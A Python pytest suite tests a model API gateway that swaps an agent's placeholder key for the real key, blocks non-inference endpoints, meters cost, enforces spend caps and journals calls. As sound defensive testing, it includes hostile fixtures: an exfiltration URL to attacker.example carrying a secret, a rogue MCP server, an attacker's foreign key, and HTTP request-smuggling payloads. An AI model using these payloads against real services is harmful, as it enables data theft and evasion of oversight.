"""The model gateway over real sockets, with the model stand-in (told only the real key) behind it.

What a maintainer or an org admin relies on: the agent's placeholder works and nothing else does;
the provider gets the real key and never the agent's; forbidden calls never reach the provider;
a streamed answer is passed on as it comes and metered; the spend cap refuses the next call and
stops the run; every exchange is journaled.
"""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from baton.redis_server import free_port
from emulator.model.standin import key_fingerprint
from worker.runner import gateway
from worker.runner.proxy import EgressProxy
from worker.runner.proxy_rules import Reason as ProxyReason

from .conftest import PLACEHOLDER, REAL_KEY, opened, raw_exchange


def _events(raw: bytes) -> list[dict[str, Any]]:
    return [json.loads(line[6:]) for line in raw.decode().splitlines() if line.startswith("data: ")]


def test_the_placeholder_gets_through_and_the_provider_sees_only_the_real_key(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path) as o:
        answer = o.post(
            "/anthropic/v1/messages?beta=true",
            anthropic_request,
            **{"anthropic-beta": "claude-code-20250219", "x-claude-code-session-id": "s1", "cookie": "a=b"},
        )
        seen = o.standin.requests()
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/event-stream")
    assert seen[-1]["auth"] == {"x-api-key": key_fingerprint(REAL_KEY)}
    assert seen[-1]["query"] == {"beta": "true"}
    assert seen[-1]["headers"].get("anthropic-version") == "2023-06-01"  # sent for the agent
    assert seen[-1]["headers"].get("anthropic-beta") == "claude-code-20250219"
    assert "x-claude-code-session-id" not in seen[-1]["headers"]
    assert "cookie" not in seen[-1]["headers"]
    text = json.dumps(seen)
    assert PLACEHOLDER not in text
    assert key_fingerprint(PLACEHOLDER) not in text


def test_a_foreign_key_is_refused_recorded_as_a_violation_and_never_sent(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path) as o:
        answer = o.post("/anthropic/v1/messages", anthropic_request, key="sk-ant-attackers-own-account")
        seen = o.standin.requests()
        violations = o.gw.journal.violations()
        totals = o.gw.journal.totals()
    assert answer.status_code == 403
    error = answer.json()
    assert error["type"] == "error"
    assert error["error"]["type"] == "permission_error"
    assert "foreign-credential" in error["error"]["message"]
    assert seen == []
    assert [v["code"] for v in violations] == ["model-foreign-credential"]
    assert "sk-ant-attackers" not in json.dumps(violations)
    assert (totals["calls"], totals["refused"]) == (0, 1)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/anthropic/v1/files", {"file": "the whole repository"}),
        ("/anthropic/v1/messages/batches", {"requests": []}),
        ("/openai/v1/files", {"purpose": "assistants"}),
        ("/openai/v1/batches", {"input_file_id": "f"}),
        ("/openai/v1/vector_stores", {"name": "loot"}),
    ],
)
def test_a_forbidden_endpoint_never_reaches_the_provider(
    tmp_path: Path, path: str, body: dict[str, Any]
) -> None:
    with opened(tmp_path) as o:
        answer = o.post(path, body, authorization=f"Bearer {PLACEHOLDER}")
        seen = o.standin.requests()
        violations = o.gw.journal.violations()
    assert answer.status_code == 403
    assert "not-inference" in answer.text
    assert seen == []
    assert violations[0]["code"] == "model-not-inference"
    assert violations[0]["path"] == f"model API POST {path}"


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "server-tool"),
        (
            {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "m"}]},
            "server-tool",
        ),
        (
            {
                "messages": [
                    {
                        "role": "user",
                        "content": [
                            {
                                "type": "image",
                                "source": {"type": "url", "url": "https://attacker.example/?d=secret"},
                            }
                        ],
                    }
                ]
            },
            "remote-source",
        ),
        ({"tools": [{"type": "a_tool_nobody_has_seen_yet", "name": "x"}]}, "unknown-shape"),
    ],
)
def test_a_forbidden_body_never_reaches_the_provider(
    tmp_path: Path, anthropic_request: dict[str, Any], extra: dict[str, Any], reason: str
) -> None:
    with opened(tmp_path) as o:
        answer = o.post("/anthropic/v1/messages", {**anthropic_request, **extra})
        seen = o.standin.requests()
    assert answer.status_code == 403
    assert f"({reason})" in answer.json()["error"]["message"]
    assert seen == []


def test_a_beta_header_for_server_fetch_never_reaches_the_provider(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path) as o:
        answer = o.post(
            "/anthropic/v1/messages", anthropic_request, **{"anthropic-beta": "web-fetch-2025-09-10"}
        )
        assert o.standin.requests() == []
    assert answer.status_code == 403
    assert "server-tool" in answer.text


def test_a_streamed_answer_is_metered_and_priced(tmp_path: Path, anthropic_request: dict[str, Any]) -> None:
    with opened(tmp_path) as o:
        answer = o.post("/anthropic/v1/messages", anthropic_request)
        entry = o.gw.journal.to_data()["entries"][-1]
        totals = o.gw.journal.totals()
    said = _events(answer.content)
    start = next(e for e in said if e["type"] == "message_start")["message"]["usage"]
    delta = next(e for e in said if e["type"] == "message_delta")["usage"]
    assert entry["usage"] == {
        "input_tokens": start["input_tokens"],
        "output_tokens": delta["output_tokens"],
        "cache_read_tokens": 0,
        "cache_write_tokens": 0,
        "reported": True,
    }
    assert entry["priced_as"] == "anthropic/claude-sonnet-*"
    assert entry["cost_usd"] == pytest.approx((start["input_tokens"] * 3 + delta["output_tokens"] * 15) / 1e6)
    assert entry["response_bytes"] == len(answer.content)
    assert totals["models"][0]["model"] == "claude-sonnet-4-5"
    assert totals["calls"] == 1


def test_the_first_byte_does_not_wait_for_the_last(tmp_path: Path, anthropic_request: dict[str, Any]) -> None:
    """The stand-in sends a stream's opening events, then holds the rest for 30 s: the agent must have
    the opening before then, through the gateway."""
    script = [{"stall": {"seconds": 30, "after_headers": True, "then": "answer"}}, {"text": "Done."}]
    with opened(tmp_path, script) as o:
        started = time.monotonic()
        with o.client.stream(
            "POST", "/anthropic/v1/messages", json=anthropic_request, headers={"x-api-key": PLACEHOLDER}
        ) as answer:
            first = next(answer.iter_raw())
            waited = time.monotonic() - started
            o.standin.stopping.set()  # let the rest go
    assert answer.status_code == 200
    assert b"message_start" in first
    assert waited < 20, f"the first bytes took {waited:.1f} s: they waited for the stall"


def test_a_json_answer_for_codex_is_metered_too(tmp_path: Path) -> None:
    body = {"model": "gpt-5.4-mini", "input": [{"role": "user", "content": "hi"}], "stream": False}
    with opened(tmp_path) as o:
        answer = o.post("/openai/v1/responses", body, key=None, authorization=f"Bearer {PLACEHOLDER}")
        entry = o.gw.journal.to_data()["entries"][-1]
        seen = o.standin.requests()[-1]
    assert answer.status_code == 200, answer.text
    assert seen["auth"] == {"authorization": key_fingerprint(REAL_KEY)}
    usage = answer.json()["usage"]
    assert entry["usage"]["input_tokens"] == usage["input_tokens"]
    assert entry["usage"]["output_tokens"] == usage["output_tokens"]
    assert entry["stream"] is False
    assert entry["priced_as"] == "openai/gpt-5.4-mini*"


def test_the_spend_cap_refuses_the_next_call_and_stops_the_run(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path, per_run=0.000001) as o:
        first = o.post("/anthropic/v1/messages", anthropic_request)
        stopped_at_once = list(o.stopped)  # the call that reached the cap stops the run, before any other
        second = o.post("/anthropic/v1/messages", anthropic_request)
        third = o.post("/anthropic/v1/messages", anthropic_request)
        calls = len(o.standin.requests())
        counted = o.post(
            "/anthropic/v1/messages/count_tokens", {"model": "claude-sonnet-4-5", "messages": []}
        )
    assert first.status_code == 200
    assert (second.status_code, third.status_code) == (403, 403)
    assert "over-budget" in second.text
    assert "limits.max_model_spend_per_run" in second.text
    assert calls == 1
    assert len(o.stopped) == 1
    assert stopped_at_once == o.stopped
    assert "of its $0.0000 model budget" in o.stopped[0]
    assert o.gw.over_budget == o.stopped[0]
    assert o.gw.journal.violations() == []  # Baton's own limit, not the agent's fault
    assert counted.status_code == 200  # counting tokens costs nothing and stays allowed


class _Ledger:
    """A day budget shared with other runs (the worker's is in Redis)."""

    def __init__(self, left: float, fail: bool = False) -> None:
        self.usd, self.fail = left, fail
        self.charged: list[float] = []
        self.lock = threading.Lock()

    def left(self) -> gateway.Left | None:
        if self.fail:
            raise ConnectionError("Redis is down")
        return gateway.Left(self.usd, 10.0, "org/repo", "limits.max_model_spend_per_day")

    def charge(self, usd: float) -> gateway.Left | None:
        with self.lock:
            self.charged.append(usd)
            self.usd -= usd
        return self.left()


def test_the_day_budget_is_asked_before_and_charged_after_every_call(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    ledger = _Ledger(left=5.0)
    with opened(tmp_path, ledger=ledger) as o:
        assert o.post("/anthropic/v1/messages", anthropic_request).status_code == 200
        cost = o.gw.journal.spent_usd
        ledger.usd = 0.0  # other runs spent the rest
        refused = o.post("/anthropic/v1/messages", anthropic_request)
    assert ledger.charged == [pytest.approx(cost)]
    assert cost > 0
    assert refused.status_code == 403
    assert "org/repo has spent $10.00 of its $10.00 model budget today" in refused.text


def test_a_call_that_spends_the_days_last_dollars_ends_the_run_without_waiting_for_another(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    ledger = _Ledger(left=1e-9)  # less than any call costs
    with opened(tmp_path, ledger=ledger) as o:
        answer = o.post("/anthropic/v1/messages", anthropic_request)
        over = o.gw.over_budget
    assert answer.status_code == 200  # the call that passed the check before it is answered whole
    assert o.stopped == [over]
    assert over is not None
    assert over.startswith("org/repo has spent $10.00 of its $10.00 model budget today")


def test_a_budget_that_cannot_be_read_refuses_the_call(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path, ledger=_Ledger(0, fail=True)) as o:
        answer = o.post("/anthropic/v1/messages", anthropic_request)
        assert o.standin.requests() == []
    assert answer.status_code == 503
    assert "budget-unknown" in answer.text
    assert o.stopped == []  # a blip in Redis does not end the run by itself


def test_a_provider_the_worker_has_no_key_for_is_refused_with_the_fix(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path, keys={}) as o:
        answer = o.post("/anthropic/v1/messages", anthropic_request)
        assert o.standin.requests() == []
    assert answer.status_code == 503
    assert "the worker has no ANTHROPIC_API_KEY for anthropic" in answer.text
    assert o.gw.journal.violations() == []


def test_a_provider_that_is_down_is_a_502_in_its_own_error_shape(tmp_path: Path) -> None:
    with opened(tmp_path) as o:
        # Point openai at a port where nothing listens.
        config = o.gw._server.config
        upstream = config.upstreams["openai"]
        closed = f"http://127.0.0.1:{free_port()}"
        object.__setattr__(upstream, "base_url", closed)
        answer = o.post(
            "/openai/v1/chat/completions",
            {"model": "gpt-5.4", "messages": []},
            key=None,
            authorization=f"Bearer {PLACEHOLDER}",
        )
        entry = o.gw.journal.to_data()["entries"][-1]
    assert answer.status_code == 502
    assert answer.json()["error"]["code"] == "upstream-failed"
    assert entry["outcome"] == "failed"


def test_malformed_requests_are_refused_and_the_connection_closed(tmp_path: Path) -> None:
    with opened(tmp_path) as o:
        sock = o.gw.socket_path
        two_ways = raw_exchange(
            sock,
            b"POST /anthropic/v1/messages HTTP/1.1\r\nContent-Length: 5\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        )
        huge = raw_exchange(
            sock, b"POST /anthropic/v1/messages HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n"
        )
        folded = raw_exchange(sock, b"POST /anthropic/v1/messages HTTP/1.1\r\n x-api-key: a\r\n\r\n")
        assert o.standin.requests() == []
    assert two_ways.startswith(b"HTTP/1.1 400 ")
    assert b"Connection: close" in two_ways
    assert huge.startswith(b"HTTP/1.1 413 ")
    assert folded.startswith(b"HTTP/1.1 400 ")


def _chunked(body: bytes, *, size_line: bytes | None = None) -> bytes:
    """A Messages call with its body sent chunked (in two chunks), closing the connection after."""
    half = len(body) // 2
    first = size_line if size_line is not None else b"%x\r\n" % half
    return (
        b"POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"x-api-key: " + PLACEHOLDER.encode() + b"\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n"
        + first + body[:half] + b"\r\n" + b"%x\r\n" % (len(body) - half) + body[half:] + b"\r\n0\r\n\r\n"
    )  # fmt: skip


def test_a_chunked_body_reaches_the_provider_whole(tmp_path: Path, anthropic_request: dict[str, Any]) -> None:
    body = json.dumps({**anthropic_request, "stream": False}).encode()
    with opened(tmp_path) as o:
        answer = raw_exchange(o.gw.socket_path, _chunked(body))
        seen = o.standin.requests()
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert [r["body"]["messages"] for r in seen] == [anthropic_request["messages"]]


@pytest.mark.parametrize(
    "size_line",
    [b"10 \r\n", b" 10\r\n", b"10;ext\x01\r\n", b"0x10\r\n", b"\r\n"],
    ids=["space-after", "space-before", "control-in-extension", "0x-prefix", "empty"],
)
def test_a_chunk_size_line_outside_the_grammar_is_refused_and_goes_nowhere(
    tmp_path: Path, anthropic_request: dict[str, Any], size_line: bytes
) -> None:
    body = json.dumps({**anthropic_request, "stream": False}).encode()
    with opened(tmp_path) as o:
        answer = raw_exchange(o.gw.socket_path, _chunked(body, size_line=size_line))
        seen = o.standin.requests()
        entry = o.gw.journal.to_data()["entries"][-1]
    assert answer.startswith(b"HTTP/1.1 400 ")
    assert b"Connection: close" in answer
    assert entry["reason"] == "bad-request"
    assert seen == []


def test_one_connection_carries_many_calls(tmp_path: Path, anthropic_request: dict[str, Any]) -> None:
    body = json.dumps({**anthropic_request, "stream": False}).encode()
    one = (
        b"POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"x-api-key: "
        + PLACEHOLDER.encode()
        + b"\r\nContent-Length: "
        + str(len(body)).encode()
        + b"\r\n\r\n"
        + body
    )
    last = one.replace(b"Host: x\r\n", b"Host: x\r\nConnection: close\r\n")
    with opened(tmp_path) as o:
        got = raw_exchange(o.gw.socket_path, one + one + last, read=1 << 20)
        calls = o.gw.journal.totals()["calls"]
    assert got.count(b"HTTP/1.1 200 OK") == 3
    assert calls == 3


def test_a_call_sent_through_the_egress_proxy_is_handed_to_the_gateway(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    """A CLI that ignores NO_PROXY sends its gateway calls to the proxy as absolute-form requests."""
    body = json.dumps({**anthropic_request, "stream": False}).encode()

    def absolute(url: str, key: str) -> bytes:
        return (
            f"POST {url} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nx-api-key: {key}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode() + body

    with opened(tmp_path) as o:
        gateway_door = (("127.0.0.1", gateway.IN_BOX_PORT), o.gw.socket_path)
        with EgressProxy(
            tmp_path / "proxy.sock", allow=[], model_hosts=["api.anthropic.com"], gateway=gateway_door
        ) as egress:
            handed = raw_exchange(
                tmp_path / "proxy.sock",
                absolute("http://127.0.0.1:3129/anthropic/v1/messages", PLACEHOLDER),
                read=1 << 20,
            )
            direct = raw_exchange(
                tmp_path / "proxy.sock", absolute("http://api.anthropic.com/v1/messages", REAL_KEY)
            )
            log = egress.log.to_data()
        calls = o.gw.journal.totals()["calls"]
    assert handed.startswith(b"HTTP/1.1 200 OK"), handed[:300]
    assert calls == 1
    assert direct.startswith(b"HTTP/1.1 403 ")
    assert [(e["host"], e["allowed"], e["reasons"]) for e in log] == [
        ("api.anthropic.com", False, {str(ProxyReason.MODEL_HOST): 1})
    ]


def test_the_journal_lists_the_model_calls_as_egress(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    with opened(tmp_path) as o:
        o.post("/anthropic/v1/messages", anthropic_request)
        o.post("/anthropic/v1/files", {"x": 1})
        record = o.gw.record()
        egress = o.gw.journal.egress()
    assert [(e["host"], e["allowed"], e["connections"]) for e in egress] == [
        ("api.anthropic.com", False, 1),
        ("api.anthropic.com", True, 1),
    ]
    assert egress[0]["reasons"] == {"gateway:not-inference": 1}
    assert record["totals"]["calls"] == 1
    assert record["totals"]["refused"] == 1
    assert len(record["journal_sha256"]) == 64
    assert all(e["request_sha256"] for e in record["journal"]["entries"])
    assert "Say hi" not in json.dumps(record)  # digests of what the agent sent, never its text


def test_a_providers_cookie_reaches_neither_the_agent_nor_a_later_call(
    tmp_path: Path, anthropic_request: dict[str, Any]
) -> None:
    """One connection pool serves every run of a worker process: nothing an answer sets may ride on
    another call (another org's, maybe)."""
    script = [
        {"error": {"status": 429, "headers": {"Set-Cookie": "session=track-me; Path=/"}}},
        {"text": "ok"},
    ]
    with opened(tmp_path, script) as o:
        first = o.post("/anthropic/v1/messages", anthropic_request)
        second = o.post("/anthropic/v1/messages", anthropic_request)
        seen = o.standin.requests()
    assert (first.status_code, second.status_code) == (429, 200)
    assert "set-cookie" not in first.headers
    assert [r["auth"].get("cookie") for r in seen] == [None, None]
    assert all("cookie" not in r["headers"] for r in seen)
